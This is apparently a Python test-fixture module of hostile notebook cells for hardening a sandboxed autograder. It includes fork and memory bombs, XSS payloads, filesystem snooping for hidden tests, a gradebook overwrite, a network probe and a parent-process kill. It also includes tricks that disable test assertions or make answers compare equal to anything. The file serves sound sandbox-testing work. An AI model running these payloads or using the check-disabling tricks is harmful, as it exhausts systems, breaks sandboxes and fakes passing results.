"""The code of the hostile cells (kept as text: it runs only inside a graded, sandboxed kernel)."""

WRONG = '''\
# Wrong answers that still look like answers: numbers of the wrong value.
for _name in {names!r}:
    globals()[_name] = lambda *args, **kwargs: 0.5
'''

SIGINT_LOOP = '''\
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        pass
    except BaseException:
        pass
'''

#: Cells that each stay under a per-cell limit but together pass the whole notebook's (they sleep: no CPU burnt).
SLOW_CELL = '''\
import time
time.sleep(3)
'''

MEMORY_BOMB = '''\
hoard = []
while True:
    hoard.append(bytearray(b"x" * (64 * 2**20)))
'''

FORK_BOMB = '''\
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''

FLOOD = '''\
print("x" * (30 * 2**20))
for i in range(100_000):
    print("line", i, "of a flood of output")
'''

MONKEYPATCH = '''\
# Make every test helper pass, whatever the answer.
import sys, builtins
noop = lambda *args, **kwargs: None
import numpy, numpy.testing
for _n in dir(numpy.testing):
    if _n.startswith("assert"):
        setattr(numpy.testing, _n, noop)
numpy.allclose = lambda *a, **k: True
try:
    import torch, torch.testing
    torch.testing.assert_close = noop
    torch.allclose = lambda *a, **k: True
except ImportError:
    pass
import qkvlab.checks as _checks
for _n in dir(_checks):
    if _n.startswith(("check", "_fail", "to_array")):
        try:
            getattr(_checks, _n).__code__ = noop.__code__  # the function objects themselves
        except (AttributeError, TypeError, ValueError):
            pass
        setattr(_checks, _n, noop)
for _n in list(globals()):
    if _n.startswith("check_"):
        globals()[_n] = noop
'''

LATE_PATCH = '''\
# The answer itself disables the checks at the moment a test calls it.
def _disable_checks():
    import qkvlab.checks as c
    noop = lambda *a, **k: None
    for n in dir(c):
        if n.startswith(("check", "_fail")) and callable(getattr(c, n)):
            try:
                getattr(c, n).__code__ = noop.__code__
            except (AttributeError, TypeError, ValueError):
                setattr(c, n, noop)
    return 0.5

for _name in {names!r}:
    globals()[_name] = lambda *args, **kwargs: _disable_checks()
'''

REWRITE_CELLS = '''\
# Turn every later cell into `pass`: IPython's input transformer, on the instance and on the shell's class.
ip = get_ipython()
ip.input_transformer_manager.transform_cell = lambda cell: "pass\\n"
type(ip).transform_cell = lambda self, cell: "pass\\n"
'''

REPLACE_COMPILER = '''\
# Compile every later cell as `pass`: IPython's compiler.
ip = get_ipython()
_parse = ip.compile.ast_parse
ip.compile.ast_parse = lambda source, *args, **kwargs: _parse("pass\\n", *args, **kwargs)
'''

FAKE_HANDLER = '''\
# The kernel's own message handler runs `pass` instead of any cell that checks something.
_kernel = get_ipython().kernel
_real = _kernel.shell_handlers["execute_request"]


async def _fake(stream, ident, parent):
    if "check" in parent["content"].get("code", ""):
        parent["content"]["code"] = "pass"
    result = _real(stream, ident, parent)
    if hasattr(result, "__await__"):
        await result


_kernel.shell_handlers["execute_request"] = _fake
'''

SWALLOW = '''\
# Hide every error of every later cell.
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
ip.showtraceback = lambda *args, **kwargs: None
'''

ALWAYS_EQUAL = '''\
class AlwaysEqual(float):
    """Equal to everything, close to everything."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return False
    def __ge__(self, other): return True
    def __hash__(self): return 0
    def __getitem__(self, item): return self
    def __len__(self): return 1
    @property
    def shape(self): return ()

for _name in {names!r}:
    globals()[_name] = lambda *args, **kwargs: AlwaysEqual(0.5)
'''

SNOOP = '''\
# Look for solutions, hidden tests, gradebooks and other students' work, and print what was found.
import os
roots = ["/work", "/tmp", "/root", "/home", os.path.expanduser("~/..")]
try:
    import qkvlab, pathlib
    roots.append(str(pathlib.Path(qkvlab.__file__).resolve().parent.parent))
except Exception:
    pass
try:
    roots += [open(f"/proc/{p}/cmdline").read().replace("\\0", " ").split("--out ")[-1].split()[0]
              for p in os.listdir("/proc") if p.isdigit()]
except Exception:
    pass
seen = 0
for root in roots:
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in (".venv", "node_modules", "site-packages", "_build", ".git")]
        for f in files:
            if not f.endswith((".ipynb", ".db", ".py", ".csv", ".html")):
                continue
            seen += 1
            if seen > 20000:
                break
            path = os.path.join(folder, f)
            try:
                text = open(path, "rb").read(5_000_000).decode("utf-8", "replace")
            except OSError:
                continue
            if "BEGIN HIDDEN TESTS" in text or "BEGIN SOLUTION" in text or "SQLite format" in text:
                print("LE" + "AK:", path)  # split, so that only a real leak prints the marker
'''

WRITE_GRADEBOOK = '''\
# Find any gradebook and give everybody full marks.
import glob, os, sqlite3
paths = set()
for pattern in ["/tmp/**/gradebook.db", "/work/**/gradebook.db", "/root/**/gradebook.db"]:
    try:
        paths.update(glob.glob(pattern, recursive=True))
    except Exception:
        pass
for path in paths:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET manual_score = 999")
        db.commit()
        print("WRO" + "TE:", path)
    except Exception as error:
        print("could not write", path, type(error).__name__)
'''

NETWORK = '''\
import socket
for host, port in [("1.1.1.1", 53), ("8.8.8.8", 53), ("pypi.org", 443)]:
    try:
        socket.create_connection((host, port), timeout=3).close()
        print("NETWORK" + "-OPEN", host)
    except OSError as error:
        print("no network:", type(error).__name__)
'''

HTML_JS = '''\
from IPython.display import HTML, Javascript, SVG, display
display(HTML("<script>alert('html output')</script><b onmouseover=alert(1)>bold</b>"))
display(Javascript("alert('js output')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(2)</script></svg>'))
'''

HTML_MARKDOWN = '''\
My answer <script>alert('markdown')</script> and <img src=x onerror=alert(3)>
<iframe src="javascript:alert(4)"></iframe> <a href="javascript:alert(5)">click</a>
'''

ZYGOTE = '''\
# The kernel was forked by the grader's zygote: look for a way back into it (its socket, an inherited
# descriptor, the grader's modules, its process) and print what worked.
import glob, os, signal, socket, sys
found = [name for name in sys.modules if name.startswith(("autograder", "_qkv_sandbox"))]
if found:
    print("ZYGOTE" + "-MODULES:", found)
for fd in range(3, 1024):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if target.startswith("socket:"):
        try:
            sock = socket.socket(fileno=os.dup(fd))
            if sock.family == socket.AF_UNIX and sock.type == socket.SOCK_SEQPACKET:
                print("ZYGOTE" + "-SOCKET:", fd, target)
        except OSError:
            pass
for path in glob.glob("/tmp/**/zygote-*.sock", recursive=True):
    try:
        socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect(path)
        print("ZYGOTE" + "-CONNECTED:", path)
    except OSError:
        pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
    print("ZYGOTE" + "-KILLED:", os.getppid())
except OSError as error:
    print("the parent is out of reach:", type(error).__name__)
'''
